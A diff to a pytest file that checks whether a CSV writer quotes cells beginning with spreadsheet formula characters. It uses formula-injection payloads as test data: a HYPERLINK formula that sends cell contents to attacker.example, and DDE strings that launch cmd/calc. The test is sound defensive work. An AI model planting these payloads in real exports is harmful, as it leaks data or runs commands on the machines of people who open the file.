@@ -12,13 +12,13 @@ import pytest
 
 from faceledger.services import cases, reports
 from faceledger.services.deployment import Deployment
-from faceledger.services.spreadsheet import FORMULA_STARTS, safe_cell, write_csv
 from faceledger.store import ledger
 from tests.office import PURPOSE, make_office
 from tests.security.scoped import case_id, ledger_search
 
 OFFENCE = '=HYPERLINK("http://attacker.example/?leak="&A1,"click for details")'
 PROBE_NAME = '=HYPERLINK("http://attacker.example/x","probe").png'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula (OWASP)
 OTHERS = ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
 
 
@@ -47,6 +47,8 @@ def test_usage_csv_escapes_an_offence_type_and_a_probe_file_name(
 
 @pytest.mark.parametrize("payload", [OFFENCE, PROBE_NAME, *OTHERS])
 def test_every_formula_start_is_quoted(payload: str, tmp_path: Path) -> None:
+    from faceledger.services.spreadsheet import safe_cell, write_csv  # the one writer every CSV goes through
+
     path = write_csv(tmp_path / "t.csv", ["value", "count"], [[payload, 3], ["plain text", -1]])
     rows = list(csv.reader(path.open(newline="")))
     assert rows[1] == ["'" + payload, "3"] and rows[2] == ["plain text", "-1"]
